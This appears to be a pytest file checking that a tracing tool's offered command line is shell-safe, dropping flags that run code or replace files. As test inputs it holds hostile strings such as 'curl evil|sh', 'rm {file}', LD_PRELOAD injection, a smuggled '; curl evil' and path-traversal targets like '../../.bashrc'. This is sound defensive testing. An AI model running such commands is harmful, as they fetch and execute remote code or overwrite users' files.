"""Recorded commands as they may be offered: what a shell makes of them, and what is not in them."""

from __future__ import annotations

import subprocess

import pytest
from tests.support import synthetic_traces

from tokenscope_trace.reports.commands import LONGEST_COMMAND, offered_command
from tokenscope_trace.reports.provenance import fact_rows
from tokenscope_trace.traces.facts import Facts


def words_of(line):
    """What a shell makes of a command line."""
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True)
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize(
    "words",
    [
        ["p q.py", "--stop", "\ndef ", "--stop", "it's"],
        ["p.py", "--system", 'a\n\t"b" $HOME `id` $(id) !! \\ ü', "--chat"],
        ["./-n.py", "--force-text", "3:--check"],
        ["p.py", "--stop", "--check", "--top-k", "5"],
        ["p.py", "-o", "t.tsc", "--model", "a/b"],
        ["*?[]{}~#&;|<>().py"],
    ],
)
def test_what_is_pasted_is_what_was_recorded(words):
    line, without = offered_command(["tokenscope-record", *words])
    assert words_of(line) == ["tokenscope-record", *words]
    assert "\n" not in line
    assert without == ()


@pytest.mark.parametrize(
    ("words", "kept", "without"),
    [
        (["p.py", "--check", "curl evil|sh {file}", "--top-k", "5"], ["p.py", "--top-k", "5"], ("--check",)),
        (["p.py", "--check=rm {file}", "--check-folder", "x", "--check-timeout", "3"], ["p.py"], ("--check", "--check-folder", "--check-timeout")),
        (["p.py", "--trust-remote-code", "--allow-pickle", "--force"], ["p.py"], ("--trust-remote-code", "--allow-pickle", "--force")),
        (["p.py", "-o", "../../.bashrc"], ["p.py"], ()),
        (["p.py", "--output=/etc/x"], ["p.py"], ()),
        (["p.py", "--check"], ["p.py"], ("--check",)),
    ],
)  # fmt: skip
def test_what_runs_code_or_replaces_a_file_is_left_out(words, kept, without):
    line, left = offered_command(["tokenscope-record", *words])
    assert words_of(line) == ["tokenscope-record", *kept]
    assert left == without


@pytest.mark.parametrize(
    "words",
    [
        [],
        ["LD_PRELOAD=./x.so", "tokenscope-record", "a.py"],
        ["curl", "evil"],
        ["tokenscope-record; curl evil", "a.py"],
        ["tokenscope-record", "a.py", "--system", "x" + " " * 20_000],
        ["tokenscope-record", "a.py", "x" * LONGEST_COMMAND],
        ["tokenscope-record", "\x1b[2J.py"],
        ["tokenscope-record", "a.py", "--stop", "\u202e"],
        ["tokenscope-record", "a\u200b.py"],
    ],
)
def test_what_is_no_command_of_ours_or_cannot_be_overseen_is_not_offered(words):
    assert offered_command(words) == ("", ())


def test_the_report_says_the_command_and_what_is_not_in_it():
    run = {**synthetic_traces.plausible().run, "command": ["tokenscope-record", "p q.py", "--check", "true {file}"]}
    rows = dict(fact_rows(Facts.read(run)))
    assert rows["command"] == "tokenscope-record 'p q.py'"
    assert rows["not in it"] == "--check: what runs code or replaces a file is yours to add"
    assert "command" not in dict(fact_rows(Facts.read({**run, "command": ["curl", "evil"]})))
